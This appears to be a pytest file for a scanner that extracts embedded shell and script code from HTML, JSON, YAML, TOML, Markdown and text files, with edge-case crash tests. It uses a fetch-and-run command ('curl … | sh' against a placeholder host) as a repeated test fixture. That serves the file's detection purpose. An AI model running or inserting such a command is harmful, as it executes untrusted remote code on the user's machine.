"""Code in files that are no scripts: it is cut out with its language and its place."""

from __future__ import annotations

import pytest

from metier.scan.languages.file_text import CodeStretch, snippets
from metier.scan.languages.markdown import segments

RUN = "curl -s https://x.example/a | sh"


def cut(path: str, kind: str, text: str) -> list[CodeStretch]:
    return list(snippets(path, kind, text, segments(text) if kind == "markdown" else ()))


@pytest.mark.parametrize(
    ("path", "kind", "text", "expected"),
    [
        ("main.go", "text", "package main\n", ("go", "package main\n", 0, "script")),
        ("a.html", "html", "<p>a</p><script>run()</script>", ("javascript", "run()", 16, "script")),
        ("a.html", "html", "<SCRIPT type='module'>run()", ("javascript", "run()", 22, "script")),
        ("a.json", "json", f'{{"a": "{RUN}"}}', ("shell", RUN, 7, "code")),
        ("a.json", "json", '{"a": "echo \\"b\\" | sh"}', ("shell", 'echo "b" | sh', 7, "code")),
        ("a.json", "json", '{"a": "echo \\u0062 | sh', ("shell", "echo b | sh", 7, "code")),
        ("a.yaml", "yaml", f"a:\n  - run: {RUN}\n", ("shell", RUN, 12, "code")),
        ("a.yaml", "yaml", f"run: |\n  {RUN}\n", ("shell", RUN, 9, "code")),
        ("a.toml", "toml", f'run = "{RUN}"\n', ("shell", RUN, 7, "code")),
        ("a.txt", "text", f"Notes\n$ {RUN}\n", ("shell", RUN, 8, "code")),
        ("a.md", "markdown", f"# A\n\n{RUN}\n", ("shell", RUN, 5, "code")),
        ("a.md", "markdown", f"# A\n\n1. {RUN}\n", ("shell", RUN, 8, "code")),
        ("a.md", "markdown", f"# A\n\n<!-- {RUN}\n-->\n", ("shell", RUN, 10, "html-comment")),
        ("a.md", "markdown", f"---\nhooks:\n  command: {RUN}\n---\n", ("shell", RUN, 22, "code")),
    ],
)
def test_code_is_cut_out(
    path: str, kind: str, text: str, expected: tuple[str, str, int, str]
) -> None:
    assert [expected] == [
        (one.lang, one.code.plain, one.start, one.place) for one in cut(path, kind, text)
    ]


@pytest.mark.parametrize(
    ("path", "kind", "text"),
    [
        ("a.txt", "text", "Some words about curl and bash.\n"),
        ("a.md", "markdown", "# A\n\nUse curl | sh never.\n"),
        ("a.json", "json", '{"name": "notes", "version": "1.0"}'),
        ("a.csv", "csv", f"{RUN}\n"),
        ("a.html", "html", "<p>script</p>"),
        ("a.md", "markdown", f"# A\n\n```sh\n{RUN}\n```\n"),
    ],
)
def test_what_is_no_code_or_is_cut_out_elsewhere_is_left(path: str, kind: str, text: str) -> None:
    assert [] == cut(path, kind, text)


def test_places_lead_back_through_escapes() -> None:
    text = '{"a": "echo \\"b\\" | sh"}'
    (one,) = cut("a.json", "json", text)

    start, end = one.code.span(one.code.plain.index("sh"), len(one.code.plain))

    assert "sh" == text[one.start + start : one.start + end]


@pytest.mark.parametrize("kind", ["html", "json", "yaml", "text", "markdown"])
@pytest.mark.parametrize(
    "text",
    [
        "",
        "<script>" * 999,
        '"' * 999,
        '"\\"' * 999,
        " " * 9_999 + "x" * 9_999,
        "- " * 999,
        "\ud800",
        "<!--" * 999,
        "a: " * 999,
    ],
)
def test_nothing_is_a_crash(kind: str, text: str) -> None:
    assert all(0 <= one.start <= len(text) for one in cut("a", kind, text))
